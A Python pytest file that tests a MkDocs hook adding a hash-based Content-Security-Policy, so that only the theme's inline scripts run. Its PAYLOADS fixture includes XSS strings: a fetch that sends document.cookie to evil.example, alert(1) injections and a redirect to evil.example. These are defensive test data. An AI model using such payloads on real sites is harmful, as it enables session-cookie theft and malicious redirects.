"""A page runs the scripts of its theme, and nothing else."""

import base64
import hashlib
import re
from pathlib import Path

import pytest
from mkdocs.config.defaults import MkDocsConfig
from mkdocs.structure.files import File
from mkdocs.structure.pages import Page

from runbook.publish import mkdocs_hooks
from runbook.publish.content_policy import scripts_of_theme, with_policy


def _hash(script: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


THEME = re.compile("a &amp; b\n|c\\(\\)")


def _rules(page: str) -> list[str]:
    rules = page.partition('content="')[2].partition('"')[0].replace("&#x27;", "'")
    return rules.split("; ")[-1].split()


def test_the_policy_stands_before_everything_else_in_the_head() -> None:
    page = with_policy("<html><head><script>c()</script></head></html>", THEME)
    assert page.startswith('<html><head><meta http-equiv="Content-Security-Policy" content="default-src ')


def test_scripts_of_the_theme_are_named_by_their_text_and_no_others() -> None:
    page = with_policy(
        "<head><script>a &amp; b\n</script><script src=x.js>not this</script><script>c();evil()</script>"
        '<script type="application/json">{}</script><SCRIPT type="module">c()</SCRIPT></head>',
        THEME,
    )
    assert _rules(page) == ["script-src", "'self'", _hash("a &amp; b\n"), _hash("c()")]


def test_the_same_script_is_named_once() -> None:
    assert with_policy("<head></head><script>c()</script><script>c()</script>", THEME).count("sha256-") == 1


def test_a_page_without_a_head_is_left_as_it_is() -> None:
    assert with_policy("<p>words</p>", THEME) == "<p>words</p>"


@pytest.fixture
def material() -> MkDocsConfig:
    config = MkDocsConfig()
    config.load_dict({"theme": {"name": "material"}, "site_name": "site"})
    config.validate()
    return config


OF_MATERIAL = (
    "var target=document.getElementById(location.hash.slice(1));"
    'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
)
PAYLOADS = [
    "fetch('https://evil.example/'+document.cookie)",
    "",
    f"{OF_MATERIAL};alert(1)",
    f"alert(1);{OF_MATERIAL}",
    'window.location.replace(["https://evil.example",window.location.search,window.location.hash+alert(1)].join(""))',
    'window.location.replace([""+alert(1),window.location.search,window.location.hash].join(""))',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_script_that_got_past_the_escaping_stands_in_the_page_and_may_not_run(
    material: MkDocsConfig, payload: str, caplog: pytest.LogCaptureFixture
) -> None:
    """The payload is there before the policy is made: it was let in once, as each script of the page was hashed."""
    page = f"<html><head><script>{OF_MATERIAL}</script></head><body><script>{payload}</script></body></html>"
    with caplog.at_level("INFO", "mkdocs.plugins.runbook"):
        made = mkdocs_hooks.on_post_template(page, template_name="404.html", config=material)
    assert payload in made
    assert _rules(made) == ["script-src", "'self'", _hash(OF_MATERIAL)]
    assert ("404.html: a script that is none of the theme's will not run" in caplog.text) == bool(payload)


def test_what_a_template_fills_in_is_an_address_or_a_word(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "part.html").write_text('<script>scope=new URL("{{ base | d(x) }}",location)</script>')
    known = scripts_of_theme((str(tmp_path),))
    assert known.fullmatch('scope=new URL("../..",location)')
    assert not known.fullmatch('scope=new URL("a"+alert(1)+"b",location)')
    assert not known.fullmatch('scope=new URL("a",location);scope=new URL("b",location)')


@pytest.mark.parametrize(("command", "policies"), [("build", 2), ("serve", 0), ("gh-deploy", 2)])
def test_pages_that_are_reloaded_by_a_script_of_the_server_have_none(
    command: str, policies: int, material: MkDocsConfig
) -> None:
    mkdocs_hooks.on_startup(command=command, dirty=False)
    page = Page(None, File("index.md", "docs", "site", use_directory_urls=False), material)
    try:
        shown = mkdocs_hooks.on_post_page("<head></head>", page=page, config=material)
        missing = mkdocs_hooks.on_post_template("<head></head>", template_name="404.html", config=material)
    finally:
        mkdocs_hooks.on_startup(command="build", dirty=False)
    assert (shown + missing).count("Content-Security-Policy") == policies


def test_a_file_that_is_no_page_is_left_as_it_is(material: MkDocsConfig) -> None:
    assert mkdocs_hooks.on_post_template("<head></head>", template_name="feed.xml", config=material) == "<head></head>"
